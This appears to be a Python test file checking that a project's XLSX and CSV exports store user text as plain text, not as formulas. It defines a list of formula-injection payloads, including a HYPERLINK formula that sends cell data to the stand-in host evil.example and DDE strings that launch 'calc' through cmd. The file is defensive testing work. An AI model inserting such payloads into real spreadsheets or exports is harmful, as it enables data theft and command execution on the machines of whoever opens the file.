"""Nothing dangerous leaves in an export: text cells stay text in every XLSX and CSV.

The attack: a request description ``=HYPERLINK("http://…")`` was written into the journal export
as a live formula, run by the spreadsheet program of whoever opened the file. Every export now
goes through ``pcenter_lib.spreadsheets``; each test below writes the usual payloads (leading
``=``, ``+``, ``-``, ``@``, tab, carriage return) through one export and reads the file back.
"""

from __future__ import annotations

import ast
import csv
import io
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from pcenter_lib.diagnostics.view_tables import ViewTable
from pcenter_lib.services.journal import JournalFilter
from pcenter_lib.services.journal_export import export_journal_xlsx
from pcenter_lib.services.screening_exports import views_to_xlsx
from pcenter_lib.services.staffing_exports import build_proposal_xlsx
from pcenter_lib.spreadsheets import FORMULA_STARTS, write_csv
from pcenter_lib.workbench import Workbench
from tests.intake.world import NOW, build_world
from tests.staffing.test_staffing_exports import SOFFICE, conflicted_result

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(data: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(data))  # formulas are read as formulas, not values
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _assert_text(data: bytes, payloads: tuple[str, ...]) -> None:
    cells = _cells(data)
    assert [c for c in cells if c[1] == "f"] == [], "a cell would run as a formula"
    values = {str(value) for value, _type in cells}
    for payload in payloads:
        assert any(payload.strip() in value for value in values), payload


def test_journal_export_writes_descriptions_as_text(any_workbench: Workbench) -> None:
    world = build_world(any_workbench)
    for payload in PAYLOADS:
        world.register(world.draft(description=payload, confirm_duplicate=True))
    with any_workbench.sessions.begin() as session:
        data = export_journal_xlsx(
            session, actor="supervisor1", cipher=any_workbench.cipher, flt=JournalFilter(),
            lang="ru", with_identity=True, now=NOW,
        )
    _assert_text(data, PAYLOADS)


def test_libreoffice_shows_the_formula_text_instead_of_running_it(
    workbench: Workbench, tmp_path: Path
) -> None:
    world = build_world(workbench)
    world.register(world.draft(description=PAYLOADS[0]))
    with workbench.sessions.begin() as session:
        data = export_journal_xlsx(
            session, actor="supervisor1", cipher=workbench.cipher, flt=JournalFilter(),
            lang="en", now=NOW,
        )
    source = tmp_path / "journal.xlsx"
    source.write_bytes(data)
    subprocess.run(
        [SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         "--convert-to", "csv", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=240,
    )
    shown = (tmp_path / "journal.csv").read_text(encoding="utf-8", errors="replace")
    assert "HYPERLINK(" in shown  # the text itself; a formula would show only "open me"


def test_staffing_proposal_writes_names_as_text() -> None:
    data = build_proposal_xlsx(
        conflicted_result(), lang="kk", center_name=PAYLOADS[0], scenario_name=PAYLOADS[3],
        year=2025,
    )
    _assert_text(data, (PAYLOADS[0], PAYLOADS[3]))


def test_diagnostics_tables_write_labels_and_cells_as_text() -> None:
    table = pd.DataFrame(
        {"school": list(PAYLOADS), "share": [0.1] * len(PAYLOADS)},
        index=pd.Index([f"{p} grade" for p in PAYLOADS], name="=label"),
    )
    data = tables_to_xlsx([("=sheet", table)], title=PAYLOADS[1], note=PAYLOADS[2])
    _assert_text(data, PAYLOADS)


def tables_to_xlsx(sheets: list[tuple[str, pd.DataFrame]], *, title: str, note: str) -> bytes:
    """The diagnostics export's workbook writer, given views made of these tables."""
    views = [
        (
            ViewTable(
                "view", name, str(table.index.name), table,
                {column: str(column) for column in table.columns}, "groups",
            ),
            table,
        )
        for name, table in sheets
    ]  # fmt: skip
    return views_to_xlsx(views, title=title, note=note, lang="kk")


def test_csv_fields_that_could_be_formulas_are_defused() -> None:
    data = write_csv([PAYLOADS, ("plain", 5, -3, "a-b")])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert all(field.startswith("'") for field in rows[0])
    assert not any(field.startswith(FORMULA_STARTS) for field in rows[0])
    assert rows[1] == ["plain", "5", "-3", "a-b"]  # numbers are numbers, inner dashes kept


def test_every_spreadsheet_writer_goes_through_the_safe_cell_writer() -> None:
    """No module builds a workbook or a CSV without ``pcenter_lib.spreadsheets``."""
    offenders = []
    for path in sorted((ROOT / "pcenter_lib").rglob("*.py")) + sorted((ROOT / "widgets").rglob("*.py")):
        if path.name == "spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom)
            for alias in node.names
        }
        writes_csv = any(
            isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv"}
            for node in ast.walk(tree)
        )
        if ("Workbook" in names or writes_csv) and not names & {"append_row", "write_csv"}:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_alone_stays_text(payload: str) -> None:
    table = pd.DataFrame({"value": [payload]}, index=pd.Index(["row"], name="label"))
    _assert_text(tables_to_xlsx([("t", table)], title="t", note="n"), (payload,))
